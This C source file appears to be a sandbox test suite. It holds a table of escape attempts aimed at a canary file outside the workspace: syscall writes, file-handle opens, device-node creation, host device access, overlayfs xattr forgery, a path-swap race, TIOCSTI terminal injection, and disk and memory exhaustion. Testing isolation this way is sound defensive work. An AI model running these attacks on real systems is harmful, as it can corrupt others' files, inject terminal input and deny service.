// Attacks on files outside: VICTIM is a file of the canary, OUTSIDE its directory, VIEW a directory of the workspace.
#include "attack.h"
#include <dirent.h>
#include <linux/fs.h>
#include <linux/loop.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <signal.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/xattr.h>
#include <termios.h>

static const char text[] = "written by an attack\n";

static void writeAndClose(const char *what, int fd) {
  if (tell(what, fd) < 0) return;
  tell("write", write(fd, text, sizeof text - 1));
  close(fd);
}

static void openings(void) {
  const char *victim = aim("VICTIM");
  struct open_how how = {.flags = O_WRONLY | O_APPEND};
  writeAndClose("open", open(victim, O_WRONLY | O_APPEND));
  writeAndClose("openat2", (int)syscall(SYS_openat2, AT_FDCWD, victim, &how, sizeof how));
#ifdef SYS_open
  writeAndClose("open(2)", (int)syscall(SYS_open, victim, O_RDWR));
  writeAndClose("creat(2)", (int)syscall(SYS_creat, victim, 0644));
#endif
  tell("truncate while opening to read", open(victim, O_RDONLY | O_TRUNC));
}

static void truncateReading(void) { tell("truncate while opening to read", open(aim("VICTIM"), O_RDONLY | O_TRUNC)); }
static void createReading(void) {
  char path[4200];
  snprintf(path, sizeof path, "%s/created", aim("OUTSIDE"));
  tell("create while opening to read", open(path, O_RDONLY | O_CREAT, 0644));
}

static void temporaryFile(void) {
  char path[4200], link[64];
  int fd = open(aim("OUTSIDE"), O_TMPFILE | O_RDWR, 0644);
  if (tell("O_TMPFILE", fd) < 0) return;
  snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
  snprintf(path, sizeof path, "%s/linked", aim("OUTSIDE"));
  tell("linkat", linkat(AT_FDCWD, link, AT_FDCWD, path, AT_SYMLINK_FOLLOW));
}

static void changes(void) {
  char path[4200], other[4200], handle[64];
  const char *victim = aim("VICTIM");
  struct timespec times[2] = {{1, 0}, {1, 0}};
  int reading = open(victim, O_RDONLY), place = open(victim, O_PATH);
  snprintf(path, sizeof path, "%s/second", aim("OUTSIDE"));
  snprintf(other, sizeof other, "%s/other", aim("OUTSIDE"));
  tell("chmod", chmod(victim, 0600));
  tell("fchmod", fchmod(reading, 0640));
  tell("fchmodat2", syscall(452, AT_FDCWD, victim, 0604, 0));
  snprintf(handle, sizeof handle, "/proc/self/fd/%d", place);
  tell("chmod by O_PATH", chmod(handle, 0606));
  tell("utimensat", utimensat(AT_FDCWD, victim, times, 0));
  tell("futimens", futimens(reading, times));
  tell("chown", chown(victim, getuid(), getgid()));
  tell("setxattr", setxattr(victim, "user.attack", "x", 1, 0));
  tell("fsetxattr", fsetxattr(reading, "user.attack", "y", 1, 0));
  tell("setxattrat", syscall(463, AT_FDCWD, victim, 0, "user.attack", 0, 0));
  tell("removexattr", removexattr(victim, "user.kept"));
  tell("link", link(victim, path));
  tell("symlink", symlink(victim, other));
  tell("rename", rename(path, other));
  tell("renameat2 exchange", syscall(SYS_renameat2, AT_FDCWD, victim, AT_FDCWD, other, 2));
  tell("truncate", truncate(victim, 0));
  tell("mkfifo", mkfifo(path, 0600));
  tell("unlink", unlink(victim));
  tell("mkdir", mkdir(path, 0700));
  tell("rmdir", rmdir(path));
}

// Calls that work on a descriptor that was only opened to read.
static void readingDescriptor(void) {
  int fd = open(aim("VICTIM"), O_RDONLY), flags = 0;
  struct fsxattr attributes = {0};
  struct timespec times[2] = {{1, 0}, {1, 0}};
  tell("FS_IOC_GETFLAGS", ioctl(fd, FS_IOC_GETFLAGS, &flags));
  flags |= FS_NOATIME_FL | FS_NODUMP_FL;
  tell("FS_IOC_SETFLAGS", ioctl(fd, FS_IOC_SETFLAGS, &flags));
  if (!ioctl(fd, FS_IOC_FSGETXATTR, &attributes)) { attributes.fsx_xflags |= FS_XFLAG_NODUMP; tell("FS_IOC_FSSETXATTR", ioctl(fd, FS_IOC_FSSETXATTR, &attributes)); }
  tell("FS_IOC_SETVERSION", ioctl(fd, FS_IOC_SETVERSION, &flags));
  tell("file_setattr", syscall(469, AT_FDCWD, aim("VICTIM"), &attributes, sizeof attributes, 0));
  tell("fchmod", fchmod(fd, 0600));
  tell("futimens", futimens(fd, times));
  tell("fsetxattr", fsetxattr(fd, "user.attack", "y", 1, 0));
  tell("lease", fcntl(fd, F_SETLEASE, F_RDLCK));
}

static void mapShared(void) {
  int fd = open(aim("VICTIM"), O_RDWR);
  if (tell("open", fd) < 0) return;
  char *map = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  if (tell("mmap", map == MAP_FAILED ? -1 : 0) >= 0) memcpy(map, "mapped", 6), msync(map, 4096, MS_SYNC);
}

static void copies(void) {
  int from = open("/proc/self/exe", O_RDONLY), to = open(aim("VICTIM"), O_WRONLY);
  loff_t zero = 0, start = 0;
  int source = open(aim("SECOND_VICTIM"), O_RDONLY);
  tell("sendfile", sendfile(to, from, 0, 16));
  tell("copy_file_range", copy_file_range(source, &zero, to, &start, 16, 0));
  tell("FICLONE", ioctl(to, FICLONE, source));
  tell("fallocate", fallocate(to, 0, 0, 1 << 16));
  int ends[2];
  if (pipe(ends) || write(ends[1], text, 10) != 10) return;
  tell("splice", splice(ends[0], 0, to, 0, 10, 0));
}

// A handle names an inode whatever is mounted over it; HANDLE is "type:hex" of a file of the canary.
static void byHandle(void) {
  union { struct file_handle handle; char room[sizeof(struct file_handle) + MAX_HANDLE_SZ]; } file = {0};
  unsigned type, byte;
  const char *hex = strchr(aim("HANDLE"), ':');
  if (!hex || sscanf(aim("HANDLE"), "%u:", &type) != 1) return;
  for (hex++; sscanf(hex, "%2x", &byte) == 1; hex += 2) file.handle.f_handle[file.handle.handle_bytes++] = (unsigned char)byte;
  file.handle.handle_type = (int)type;
  const char *roots[] = {"/", "/tmp", "/proc/self/cwd", "/etc", "/usr", "/dev/null"};
  for (unsigned at = 0; at < sizeof roots / sizeof *roots; at++) {
    int mount = open(roots[at], O_RDONLY), fd = open_by_handle_at(mount, &file.handle, O_WRONLY);
    writeAndClose("open_by_handle_at", fd);
    close(mount);
  }
}

// Every descriptor that is open in us and was not opened by us.
static void inheritedDescriptors(void) {
  for (int fd = 3; fd < 1024; fd++) {
    if (fcntl(fd, F_GETFD) < 0) continue;
    printf("HIT descriptor %d is open\n", fd);
    if (write(fd, text, sizeof text - 1) > 0) printf("HIT wrote to descriptor %d\n", fd);
    if (openat(fd, "..", O_RDONLY | O_DIRECTORY) >= 0) printf("HIT directory %d\n", fd);
  }
  fflush(stdout);
}

// The device of the file system that holds the workspace, made by hand, wherever something can be made.
static void deviceNodes(void) {
  char path[4200], block[512];
  const char *folders[] = {aim("VIEW"), "/dev", "/dev/shm", "/dev/pts", "/tmp", "/run", "/etc", "/sys", "/proc", ""};
  const char *names[] = {"rootDevice", "memory", "ports", "messages"};
  dev_t devices[4];
  devices[0] = strtoul(aim("ROOT_DEVICE"), 0, 10), devices[1] = makedev(1, 1), devices[2] = makedev(1, 4), devices[3] = makedev(1, 11);
  for (int folder = 0; folder < 10; folder++)
    for (int at = 0; at < 4; at++) {
      snprintf(path, sizeof path, "%s/%s", folders[folder], names[at]);
      if (mknod(path, (at ? S_IFCHR : S_IFBLK) | 0666, devices[at]) < 0) continue;
      int fd = open(path, O_RDONLY | O_NONBLOCK);
      if (fd >= 0 && read(fd, block, sizeof block) >= 0) printf("READ DEVICE %s\n", path);
      fd = open(path, O_RDWR | O_NONBLOCK);
      if (fd >= 0) printf("OPENED DEVICE %s\n", path);
    }
  fflush(stdout);
}

static void hostDevices(void) {
  const char *paths[] = {"/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/loop-control", "/dev/loop0", "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/fuse", "/dev/kvm", "/dev/net/tun", "/dev/uinput", "/dev/vcs1", "/dev/tty1", "/dev/console", "/dev/vhost-net", "/dev/rtc0", "/dev/mapper/control", "/dev/userfaultfd"};
  for (unsigned at = 0; at < sizeof paths / sizeof *paths; at++) {
    int fd = open(paths[at], O_RDWR | O_NONBLOCK | O_NOCTTY);
    if (fd >= 0) printf("OPENED DEVICE %s\n", paths[at]);
  }
  fflush(stdout);
}

// xattrs by which overlayfs speaks to itself, and whiteouts made by hand: may the command write the layer's language?
static void overlayWords(void) {
  char path[4200];
  const char *names[] = {"user.overlay.opaque", "user.overlay.redirect", "user.overlay.metacopy", "user.overlay.whiteout", "user.overlay.origin", "user.overlay.overlay.opaque", "trusted.overlay.opaque", "trusted.overlay.redirect"};
  snprintf(path, sizeof path, "%s/sub", aim("VIEW"));
  for (unsigned at = 0; at < sizeof names / sizeof *names; at++) {
    const char *value = strstr(names[at], "redirect") ? "/etc" : "y";
    long result = setxattr(path, names[at], value, strlen(value), 0);
    printf("%s %s\n", result < 0 ? "no" : "set", names[at]);
  }
  snprintf(path, sizeof path, "%s/byHand", aim("VIEW"));
  printf("%s whiteout\n", mknod(path, S_IFCHR | 0644, 0) ? "no" : "made");
  snprintf(path, sizeof path, "%s/a", aim("VIEW"));
  printf("%s whiteout over a file\n", unlink(path) || mknod(path, S_IFCHR | 0644, 0) ? "no" : "made");
  fflush(stdout);
}

// A thread exchanges the path between the moment when it is judged and the moment when the kernel reads it. It begins too
// late, which does no harm, and comes a little earlier every time.
static char racedPath[4200];
static volatile int opening, delay = 400000, ended;
static void *exchange(void *unused) {
  const char *victim = aim("VICTIM");
  size_t size = strlen(victim) + 1;
  (void)unused;
  while (!ended) {
    while (!opening && !ended) {}
    for (volatile int i = 0; i < delay; i++) {}
    if (opening) memcpy(racedPath, victim, size);
    while (opening && !ended) {}
  }
  return 0;
}

static void pathRace(void) {
  pthread_t thread;
  struct stat status;
  int won = 0;
  pthread_create(&thread, 0, exchange, 0);
  for (; delay > 10 && !won; delay -= delay / 200 + 1) {
    memcpy(racedPath, "/dev/null", 10);
    opening = 1;
    int fd = open(racedPath, O_WRONLY | O_APPEND);
    opening = 0;
    if (fd < 0) continue;
    won = !fstat(fd, &status) && S_ISREG(status.st_mode);
    if (won && write(fd, text, sizeof text - 1) < 0) puts("not written");
    close(fd);
  }
  ended = 1;
  pthread_join(thread, 0);
  puts(won ? "the race is won" : "the race is over");
}

static void terminalSettings(void) {
  struct termios settings;
  struct winsize size = {7, 77, 0, 0};
  int fd = open(aim("PTY"), O_RDONLY | O_NOCTTY | O_NONBLOCK);
  if (tell("open a terminal to read", fd) < 0) return;
  tcgetattr(fd, &settings);
  settings.c_lflag ^= ECHO;
  tell("TCSETS", tcsetattr(fd, TCSANOW, &settings));
  tell("TIOCSWINSZ", ioctl(fd, TIOCSWINSZ, &size));
  tell("TCXONC", tcflow(fd, TCOOFF));
}

static void locks(void) {
  struct flock whole = {.l_type = F_WRLCK};
  int fd = open(aim("VICTIM"), O_RDONLY);
  tell("flock", flock(fd, LOCK_EX | LOCK_NB));
  tell("lease", fcntl(fd, F_SETLEASE, F_RDLCK));
  tell("lock", fcntl(fd, F_SETLK, &whole));
}

static void terminalInjection(void) {
  const char *paths[] = {"/dev/tty", aim("PTY"), "/dev/pts/0", "/proc/self/fd/0"};
  const char line[] = "x\n";
  for (unsigned at = 0; at < 4; at++) {
    int fd = open(paths[at], O_RDONLY | O_NOCTTY | O_NONBLOCK);
    if (fd < 0) continue;
    for (const char *byte = line; *byte; byte++) tell("TIOCSTI", ioctl(fd, TIOCSTI, byte));
    tell("TIOCSCTTY", ioctl(fd, TIOCSCTTY, 1));
    tell("TIOCNOTTY", ioctl(fd, TIOCNOTTY, 0));
    char linux_tty[] = {2, 0};
    tell("TIOCLINUX", ioctl(fd, TIOCLINUX, linux_tty));
  }
}

static void writeTerminal(void) { writeAndClose("terminal of another", open(aim("PTY"), O_WRONLY | O_NOCTTY | O_NONBLOCK)); }

static void loopDevices(void) {
  int control = open("/dev/loop-control", O_RDWR);
  if (tell("loop-control", control) >= 0) tell("LOOP_CTL_GET_FREE", ioctl(control, LOOP_CTL_GET_FREE));
}

static void fillDisk(void) {
  char path[4200], block[1 << 16] = {1};
  snprintf(path, sizeof path, "%s/filler", aim("VIEW"));
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  long long total = 0;
  for (ssize_t got; total < (8LL << 30) && (got = write(fd, block, sizeof block)) > 0;) total += got;
  printf("wrote %lld\n", total);
}

static void fillMemory(void) {
  for (long long total = 0; total < (64LL << 30); total += 1 << 26) {
    char *room = malloc(1 << 26);
    if (!room) { printf("refused after %lld\n", total); return; }
    memset(room, 1, 1 << 26);
  }
}

const struct attack fileAttacks[] = {
  {"openings", openings}, {"truncateReading", truncateReading}, {"createReading", createReading}, {"temporaryFile", temporaryFile},
  {"changes", changes}, {"readingDescriptor", readingDescriptor}, {"mapShared", mapShared}, {"copies", copies}, {"byHandle", byHandle},
  {"inheritedDescriptors", inheritedDescriptors}, {"deviceNodes", deviceNodes}, {"hostDevices", hostDevices}, {"overlayWords", overlayWords},
  {"pathRace", pathRace}, {"terminalSettings", terminalSettings}, {"locks", locks},
  {"terminalInjection", terminalInjection}, {"writeTerminal", writeTerminal}, {"loopDevices", loopDevices}, {"fillDisk", fillDisk}, {"fillMemory", fillMemory}, {0, 0},
};
